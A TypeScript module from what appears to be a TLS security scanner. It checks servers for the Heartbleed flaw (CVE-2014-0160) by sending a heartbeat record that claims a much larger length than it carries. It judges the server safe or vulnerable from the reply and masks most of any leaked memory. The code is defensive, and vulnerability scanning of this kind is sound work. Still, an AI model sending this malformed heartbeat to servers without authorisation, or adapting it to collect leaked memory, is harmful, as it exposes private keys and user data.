/** CVE-2014-0160: a heartbeat that says it is longer than it is, answered with what lay behind it in memory. */
import { randomBytes } from 'node:crypto'
import type { EndpointFacts } from '../endpoint.ts'
import { u8, u16 } from '../wire/bytes.ts'
import { type Channel, isEnded } from '../wire/channel.ts'
import { readFlight } from '../wire/flight.ts'
import { EXTENSION, helloRecord } from '../wire/hello.ts'
import type { Prober } from '../wire/prober.ts'
import { RECORD, record } from '../wire/record.ts'
import { classicHello, heartbeatAllowed, renegotiationInfo } from './hellos.ts'
import type { Agreed } from './keys.ts'
import { stillAnswers } from './still-answers.ts'

type Heartbleed = EndpointFacts['heartbleed']

/**
 * Octets of both heartbeats, the false one's by its claim. During the handshake OpenSSL keeps back what it writes until
 * 4,096 octets are together, so the answer to a shorter one never leaves the server.
 */
const CLAIMED = 4_352
/** RFC 6520, 4: padding of 16 octets at least. */
const PADDING = 16
const WAIT = 1_500

export const probeHeartbleed = async (prober: Prober, agreed: Agreed): Promise<Heartbleed> => {
  const first = await bleed(prober, agreed)
  // A bare end is a refusal only of a server that goes on: one that died of the question ends alike.
  if (first.notes.includes(CLOSED)) {
    const { answers, note } = await stillAnswers(prober, agreed)
    return { verdict: answers ? first.verdict : 'inconclusive', notes: [...first.notes, note] }
  }
  if (first.verdict !== 'vulnerable') return first
  const second = await bleed(prober, agreed)
  return second.verdict === 'vulnerable' ? first : { verdict: 'inconclusive', notes: [...first.notes, ...second.notes] }
}

const CLOSED = 'the connection was closed upon the false heartbeat'

const bleed = async (prober: Prober, agreed: Agreed): Promise<Heartbleed> => {
  const hello = classicHello(prober.endpoint, agreed.version, agreed.suites, {
    more: [renegotiationInfo(), heartbeatAllowed],
  })
  const result = await prober.converse(async (channel): Promise<Heartbleed> => {
    channel.write(helloRecord(hello))
    const flight = await readFlight(channel, prober.deadline(), true)
    if (flight.hello === null || flight.end.kind !== 'done') return unsure('no whole answer to the hello')
    if (!flight.hello.extensions.has(EXTENSION.heartbeat))
      return { verdict: 'safe', notes: ['heartbeat is not offered'] }
    return askBoth(channel, agreed.version, prober)
  })
  return result ?? unsure('no connection')
}

/** A sound server passes the false heartbeat over in silence: only its answer to a true one shows that it was read. */
const askBoth = async (channel: Channel, version: number, prober: Prober): Promise<Heartbleed> => {
  const request = Buffer.concat([u8(1), u16(CLAIMED), u8(0x53)])
  channel.write(record(RECORD.heartbeat, version, request))
  const first = await reactionTo(channel, request, null, prober.deadline(WAIT))
  if (first !== null) return first
  const content = randomBytes(CLAIMED)
  const sound = Buffer.concat([u8(1), u16(CLAIMED), content, Buffer.alloc(PADDING)])
  channel.write(record(RECORD.heartbeat, version, sound))
  const second = await reactionTo(channel, request, content, prober.deadline(WAIT))
  return second ?? unsure('neither the false heartbeat nor a true one was answered')
}

/** Null is silence. */
const reactionTo = async (
  channel: Channel,
  request: Buffer,
  content: Buffer | null,
  until: number,
): Promise<Heartbleed | null> => {
  const got = await channel.record(until)
  if (isEnded(got)) {
    if (got.kind === 'timeout') return null
    return got.kind === 'closed' && !got.reset
      ? { verdict: 'safe', notes: [CLOSED] }
      : unsure(`the false heartbeat was answered by: ${got.kind === 'closed' ? 'reset' : got.kind}`)
  }
  if (got.type === RECORD.alert) return { verdict: 'safe', notes: ['the false heartbeat was answered by an alert'] }
  if (got.type !== RECORD.heartbeat) return unsure(`answered by a record of type ${got.type}`)
  if (content?.equals(got.payload.subarray(3, 3 + CLAIMED)))
    return { verdict: 'safe', notes: ['a true heartbeat was answered, the false one before it was not'] }
  if (got.payload.length <= request.length)
    return { verdict: 'safe', notes: ['the answer is no longer than the request'] }
  return leaked(request, got.payload)
}

/** The start of what leaked shows that it is no padding of zeros; every other octet is masked, the rest is let go. */
const leaked = (request: Buffer, payload: Buffer): Heartbleed => {
  const start = [...payload.subarray(4, 20)]
  const masked = start.map((octet, index) => (index % 2 ? '..' : octet.toString(16).padStart(2, '0'))).join(' ')
  return {
    verdict: 'vulnerable',
    notes: [
      `sent ${request.length} octets that claim ${CLAIMED}, received ${payload.length}`,
      `first octets beyond (every other one masked): ${masked}`,
    ],
  }
}

const unsure = (note: string): Heartbleed => ({ verdict: 'inconclusive', notes: [note] })
